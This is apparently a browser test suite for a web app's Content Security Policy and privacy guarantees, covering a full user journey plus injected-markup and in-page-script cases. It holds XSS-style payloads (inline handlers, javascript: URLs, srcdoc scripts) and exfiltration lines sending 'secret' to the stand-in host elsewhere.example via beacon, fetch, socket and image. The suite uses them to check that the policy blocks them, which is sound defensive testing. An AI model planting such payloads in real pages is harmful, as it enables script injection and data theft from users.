// The whole journey under the policy (figures 12, 13 and 14), and what the policy stops if something slips in.
import { alive, expect, keep, kept, open, test } from "./app.mjs";
import { leaveOutStopped, tripwire } from "./hostile.mjs";
import { add, backUp, button, choose, entry, journal, lockJournal, passphrase, readable, unlock } from "./keeping.mjs";
import { answerAll, madeLink, unfoldPart } from "./steps.mjs";

/** From the first page to the locked journal; returns what nobody else may ever see. */
async function journey(page, stranger) {
  await open(page, "");
  await page.keyboard.press("Control+k");
  await page.getByRole("searchbox", { name: /^Search the ladder/ }).pressSequentially("l7 risk");
  await page.getByRole("dialog").getByRole("link").first().click();
  await alive(page);
  await open(page, "levels/l7/");
  await page.getByRole("button", { name: /^Link to L7/ }).first().click();
  await expect(page.getByRole("dialog").getByLabel("Address", { exact: true })).toHaveValue(/l7/);
  await page.keyboard.press("Escape");
  await page.getByRole("radio", { name: "Architect" }).check();
  await open(page, "matrix/?lean=broad");
  await open(page, "guide/hands-on-time/");
  await open(page, "quiz/");
  await answerAll(page, "broad");
  for (const part of ["What would change this result", "Name, note and reminder", "Save, print or share"]) await unfoldPart(page, part);
  await page.getByText("What if? Change answers and watch the result").click();
  await page.getByRole("button", { name: /^One step (down|towards deep)/ }).first().click();
  await page.getByRole("textbox", { name: "Name of this attempt" }).fill("Whisky November");
  await page.getByRole("textbox", { name: "Note", exact: true }).fill("nobody else reads this");
  await page.getByText("Make a link that shows this result to someone").click();
  const link = await madeLink(page.getByRole("region", { name: "Save, print or share" }), "Tango Example");
  await open(stranger, link);
  await expect(stranger.getByText("This is the result of Tango Example")).toBeVisible();
  await stranger.getByRole("link", { name: "All your results" }).click();
  await alive(stranger);
  await open(page, journal);
  await add(page, "Evidence of the case");
  await expect(page.getByText("Saved in this browser.")).toBeVisible();
  await open(page, "data/");
  await choose(page, await backUp(page));
  await button(page, "Cancel").click();
  await lockJournal(page);
  await button(page, "Lock now").click();
  await unlock(page);
  await expect(page.getByRole("heading", { name: "My data" })).toBeVisible();
  await open(page, journal);
  await expect(entry(page, "Evidence of the case")).toBeVisible();
  return ["Whisky", "nobody else reads", "Tango", "Evidence of", "horse", passphrase, link.split("#")[1]];
}

test("the whole journey breaks no rule of the policy, asks no other site, and tells the server nothing", async ({ page, context, browser, site, server, watch }) => {
  test.setTimeout(120_000);
  const theirs = await browser.newContext({ baseURL: site });
  const seen = [await tripwire(context), await tripwire(theirs)];
  const asked = [];
  theirs.on("request", (request) => asked.push(request.url()));
  const log = [];
  const note = ({ method, url, rawHeaders }) => log.push([method, url, rawHeaders]);
  server.on("request", note);
  const secrets = await journey(page, await theirs.newPage());
  server.off("request", note);
  await theirs.close();
  expect(seen).toEqual([{ ran: [], blocked: [] }, { ran: [], blocked: [] }]);
  expect([...watch.requests, ...asked].filter((url) => !url.startsWith(new URL(site).origin) && !url.startsWith("blob:"))).toEqual([]);
  expect(log.length).toBeGreaterThan(20);
  for (const [method, url, headers] of log) {
    expect(method).toBe("GET");
    const names = headers.filter((_, at) => at % 2 === 0).map((name) => name.toLowerCase());
    expect(names.filter((name) => /^(referer|cookie)$/.test(name)), url).toEqual([]);
    expect(decodeURIComponent(url)).not.toMatch(/[?&](?!attempt=[0-9a-f-]+$|lean=broad$)/);
    const line = decodeURIComponent([url, ...headers].join(" "));
    for (const secret of secrets) expect(line).not.toContain(secret);
  }
});

test.describe("what slips into a page does nothing", () => {
  const foreign = "https://elsewhere.example";
  const markup = {
    "an inline script": "<script>self.ran = 1</script>",
    "a script in a drawing": "<svg><script>self.ran = 1</script></svg>",
    "an inline handler": "<img src=nothing.png onerror='self.ran = 1'><body onload='self.ran = 1'>",
    "a script of another site": `<script src="${foreign}/x.js"></script>`,
    "a module of another site": `<script type="module">import "${foreign}/x.js"; self.ran = 1</script>`,
    "an image of another site": `<img src="${foreign}/x.png">`,
    "a style of another site": `<link rel="stylesheet" href="${foreign}/x.css"><style>@import "${foreign}/x.css"; body { background: url(${foreign}/x.png) }</style>`,
    "a frame of another site": `<iframe src="${foreign}/"></iframe><object data="${foreign}/x"></object><embed src="${foreign}/x">`,
    "a preload and a prefetch of another site": `<link rel="preload" as="image" href="${foreign}/x.png"><link rel="prefetch" href="${foreign}/x">`,
    "a film and a sound of another site": `<video src="${foreign}/x.webm"></video><audio src="${foreign}/x.ogg"></audio>`,
    "a base that moves every address": `<base href="${foreign}/">`,
  };
  for (const [words, text] of Object.entries(markup)) {
    test(`${words}, in the page as it is served`, async ({ page, context, watch }) => {
      watch.expected.push(/Content Security Policy|ERR_|404|preloaded using link preload|prefetch/);
      leaveOutStopped(context, watch);
      const { blocked } = await tripwire(context);
      await keep(page, readable);
      for (const path of ["levels/l7/", "results/"]) {
        await page.route(`**/${path}`, async (route) => {
          const response = await route.fetch();
          await route.fulfill({ response, body: (await response.text()).replace("</main>", `${text}</main>`) });
        });
        await page.goto(path, { waitUntil: "load" });
        expect(await page.evaluate(() => self.ran), path).toBeUndefined();
        await expect.poll(() => blocked.length, `${path} was told that it broke the policy`).toBeGreaterThan(0);
        expect(await page.evaluate(() => document.baseURI)).not.toContain("elsewhere");
        blocked.length = 0;
      }
      expect(await kept(page)).toEqual(readable);
    });
  }

  const code = {
    // Code that the test tool evaluates may evaluate text itself; code run by a timer may not.
    "eval": () => new Promise((done) => { setTimeout(() => { try { self.eval("self.ran = 1"); } finally { done(); } }); }),
    "a function from text": () => new Promise((done) => { setTimeout(() => { try { new Function("self.ran = 1")(); } finally { done(); } }); }),
    "a timer with text": () => setTimeout("self.ran = 1", 0),
    "markup by innerHTML": () => (document.querySelector("main").innerHTML = "<img src=x onerror='self.ran = 1'>"),
    "markup beside an element": () => document.querySelector("main").insertAdjacentHTML("beforeend", "<svg onload='self.ran = 1'></svg>"),
    "markup by document.write": () => document.write("<script>self.ran = 1</script>"),
    "markup in a frame": () => document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<script>parent.ran = 1</script>" })),
    "a script element": () => document.body.append(Object.assign(document.createElement("script"), { textContent: "self.ran = 1" })),
    "a script element with an address": () => document.body.append(Object.assign(document.createElement("script"), { src: "data:text/javascript,self.ran=1" })),
    "a handler as an attribute": () => document.querySelector("main").setAttribute("onclick", "self.ran = 1") ?? document.querySelector("main").click(),
    "an address that runs": () => document.body.appendChild(Object.assign(document.createElement("a"), { href: "javascript:void(self.ran = 1)" })).click(),
    "another policy": () => self.trustedTypes.createPolicy("mine", { createHTML: (text) => text }),
    "a worker": () => new Worker(URL.createObjectURL(new Blob(["1"]))),
    "a request": () => fetch("https://elsewhere.example/x", { mode: "no-cors" }),
    "a beacon": () => navigator.sendBeacon("https://elsewhere.example/x", "secret"),
    "a socket": () => new WebSocket("wss://elsewhere.example/x"),
    "a form to elsewhere": () => document.body.appendChild(Object.assign(document.createElement("form"), { action: "https://elsewhere.example/x", method: "post" })).submit(),
    "a picture as a carrier": () => new Promise((done) => { Object.assign(new Image(), { onerror: done, src: "https://elsewhere.example/x?secret" }); }),
  };
  for (const [words, run] of Object.entries(code)) {
    test(`${words}, by a script that is already inside`, async ({ page, context, watch }) => {
      watch.expected.push(/Content Security Policy|Trusted ?Type|TrustedScript|TrustedHTML|ERR_|Refused|Fetch API cannot load|violates/);
      leaveOutStopped(context, watch);
      const { blocked } = await tripwire(context);
      for (const path of ["levels/l7/", "results/"]) {
        await open(page, path);
        await page.evaluate(run).catch(() => {});
        await expect.poll(() => blocked.length, `${path} was told that it broke the policy`).toBeGreaterThan(0);
        expect(await page.evaluate(() => self.ran), path).toBeUndefined();
        expect(await page.evaluate(() => document.querySelector("h1").checkVisibility()), `${path} stays as it was`).toBe(true);
        blocked.length = 0;
      }
    });
  }
});
